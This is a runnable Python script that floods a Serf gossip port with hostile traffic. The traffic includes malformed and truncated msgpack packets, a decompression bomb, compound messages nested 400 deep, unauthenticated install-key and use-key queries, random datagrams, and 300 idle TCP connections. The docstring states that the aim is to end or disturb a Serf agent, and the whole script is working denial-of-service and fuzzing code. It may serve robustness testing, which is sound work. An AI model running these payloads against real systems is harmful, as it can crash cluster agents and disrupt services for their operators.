#!/usr/bin/env python3
"""Sends a gossip port what would end a Serf agent, or should disturb one:
hostile_gossip.py HOST PORT ROUNDS. Each kind is sent ROUNDS times; prints how
many datagrams and streams that were."""
import random
import socket
import struct
import sys
import zlib

host, port, rounds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
rnd = random.Random(1)


def text(s):
    b = s if isinstance(s, bytes) else s.encode()
    return (bytes([0xA0 | len(b)]) if len(b) < 32 else b"\xda" + struct.pack(">H", len(b))) + b


def fields(**kv):
    return bytes([0x80 | len(kv)]) + b"".join(text(k) + v for k, v in sorted(kv.items()))


def crc(b):
    return b"\x0c" + struct.pack(">I", zlib.crc32(b)) + b


def compound(*parts):
    return b"\x07" + bytes([len(parts)]) + b"".join(struct.pack(">H", len(p)) for p in parts) + b"".join(parts)


def alive(vsn):
    return b"\x04" + fields(Addr=text(b"\x7f\x00\x07\x63"), Incarnation=b"\x01", Meta=text(b""), Node=text("evil"),
                            Port=b"\xcd\x1f\x0a", Vsn=text(vsn))


def query(**more):
    kv = dict(Addr=text(b"\x7f\x00\x00\x01"), Filters=b"\xc0", Flags=b"\x00", ID=b"\x01", LTime=b"\x01",
              Name=text("x"), Payload=b"\xc0", Port=b"\x01", RelayFactor=b"\x00", SourceNode=text("evil"),
              Timeout=b"\xce\x77\x35\x94\x00")
    kv.update(more)
    return b"\x08\x04" + bytes([0x80 | len(kv)]) + b"".join(text(k) + v for k, v in sorted(kv.items()))


def nested(depth):
    b = b"\x0b" + fields(SeqNo=b"\x08")
    for _ in range(depth):
        b = compound(b)
    return b


ping = b"\x00" + fields(Node=text("g1"), SeqNo=b"\x01")
lzw_bomb = b"\x00" + b"\xff" * 60000
packets = [
    b"",
    compound(b""),
    compound(ping, b"", ping),
    b"\x07", b"\x07\xff", b"\x07\x02\x00\x10\x00\x10\x00",
    alive(b""), alive(b"\x01"), alive(b"\x01\x05"), alive(b"\x01\x05\x02\x02\x05"), alive(b"\0" * 6),
    b"\x09" + fields(Algo=b"\x00", Buf=text(b"")),
    b"\x09" + fields(Algo=b"\x00", Buf=text(b"\x00\x03\x02")),
    b"\x09" + fields(Algo=b"\x07", Buf=text(b"abc")),
    b"\x09" + fields(Algo=b"\x00", Buf=b"\xda" + struct.pack(">H", 60000) + lzw_bomb[:60000]),
    b"\x0c", b"\x0c\0\0\0\0", crc(b""), b"\x0c\0\0\0\1" + ping,
    query(Filters=b"\x91\xa0"),
    query(Name=text("_serf_install-key")),
    query(Name=text("_serf_install-key"), Payload=text(b"\x07")),
    query(Name=text("_serf_use-key"), Payload=text(b"")),
    query(Filters=b"\x91" + text(b"\x01" + fields(Expr=text("((((" * 7), Tag=text("role")))),
    b"\x08", b"\x08\xff", b"\x08\x09" + fields(DestAddr=b"\xc0", DestName=text("")),
    b"\xf4\x03abc" + ping,
    nested(9), nested(400),
    ping[:-1], b"\x00\xdf\xff\xff\xff\xff", b"\x04\xdd\xff\xff\xff\xff",
]
packets += [ping[:n] for n in range(1, len(ping))]
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent = 0
for _ in range(rounds):
    for p in packets:
        udp.sendto(p, (host, port))
        sent += 1
    udp.sendto(bytes(rnd.randrange(256) for _ in range(rnd.randrange(1, 200))), (host, port))
    sent += 1

head = b"\x06" + b"\x83" + text("Join") + b"\xc2" + text("Nodes") + b"%s" + text("UserStateLen") + b"%s"
streams = [
    head % (b"\xff", b"\x00"),
    head % (b"\xce\x7f\xff\xff\xff", b"\x00"),
    head % (b"\x00", b"\xce\x7f\xff\xff\xff"),
    head % (b"\x01", b"\x00") + b"\xdf\xff\xff\xff\xff",
    b"\x0a\xff\xff\xff\xff", b"\x0a\x00\x00\x00\x00", b"\x0a\x00\x00\x00\x10" + b"\x01" * 16,
    b"\x09" + fields(Algo=b"\x00", Buf=text(b"")), b"\xff", b"\x08" + fields(UserMsgLen=b"\x00"), b"GET / HTTP/1.1\r\n\r\n",
]
opened = 0
for _ in range(max(1, rounds // 20)):
    for s in streams:
        c = socket.create_connection((host, port), 5)
        try:
            c.sendall(s)
        except OSError:
            pass
        c.close()
        opened += 1
# Streams that are opened and never speak.
idle = []
for _ in range(300):
    try:
        c = socket.create_connection((host, port), 5)
        idle.append(c)
        opened += 1
    except OSError:
        break
print(sent, opened)
